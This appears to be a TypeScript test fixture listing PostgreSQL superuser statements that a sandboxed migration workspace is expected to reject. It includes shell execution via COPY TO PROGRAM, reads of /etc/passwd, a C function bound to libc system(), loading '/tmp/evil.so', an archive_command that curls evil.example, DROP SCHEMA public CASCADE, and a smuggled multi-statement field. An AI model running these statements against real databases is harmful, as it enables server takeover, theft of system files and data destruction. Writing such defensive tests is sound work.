import { withRevision, withSql, type HostileWorkspace } from "./hostileWorkspace.ts";

/** What PostgreSQL's superuser may do on a server. */
export const statements: readonly HostileWorkspace[] = [
  withSql("COPY TO PROGRAM", "COPY (SELECT 1) TO PROGRAM 'id'"),
  withSql("COPY FROM PROGRAM", "COPY pg_class FROM PROGRAM 'cat /etc/passwd'"),
  withSql("COPY FROM STDIN", "COPY pg_description FROM STDIN"),
  withSql("COPY TO a file", "COPY (SELECT 'x') TO '/tmp/x'"),
  withSql("COPY FROM a file", "CREATE TABLE p (line text); COPY p FROM '/etc/passwd'"),
  withSql("pg_read_file of the machine", "SELECT pg_read_file('/etc/passwd')"),
  withSql("pg_read_file of its own", "SELECT pg_read_file('postgresql.conf')"),
  withSql("pg_ls_dir", "SELECT pg_ls_dir('/')"),
  withSql("lo_export", "SELECT lo_export(lo_from_bytea(0, 'x'), '/tmp/out')"),
  withSql("lo_import", "SELECT lo_import('/etc/passwd')"),
  withSql("an extension that is not there", "CREATE EXTENSION dblink", {
    says: /not available|could not open extension|control file/,
  }),
  withSql("a language that is not trusted", "CREATE EXTENSION plpython3u", {
    says: /not available|could not open extension|control file/,
  }),
  withSql(
    "a function in C",
    "CREATE FUNCTION system(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6', 'system' LANGUAGE c",
  ),
  withSql("LOAD", "LOAD '/tmp/evil.so'"),
  withSql("ALTER SYSTEM", "ALTER SYSTEM SET archive_command = 'curl https://evil.example'"),
  withSql("a foreign server", "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil.example')"),
  withSql("a listening session", "LISTEN secrets; NOTIFY secrets, 'here'"),
  withSql("its own catalogs", "UPDATE pg_class SET relname = relname || 'x' WHERE relname LIKE 'pg_%'"),
  withSql("its own end", "SELECT pg_terminate_backend(pg_backend_pid())"),
  withSql("the version table gone", "DROP SCHEMA public CASCADE"),
  withRevision(
    "a transaction left open",
    `  op.execute("COMMIT"); op.execute("BEGIN"); op.execute("CREATE TABLE left_open (id int)");`,
  ),
  withRevision("rows without end for the link", "", {
    shared: { rows: "SELECT 1; COPY (SELECT 1) TO PROGRAM 'id'; SELECT pg_read_file('/etc/passwd')" },
  }),
];
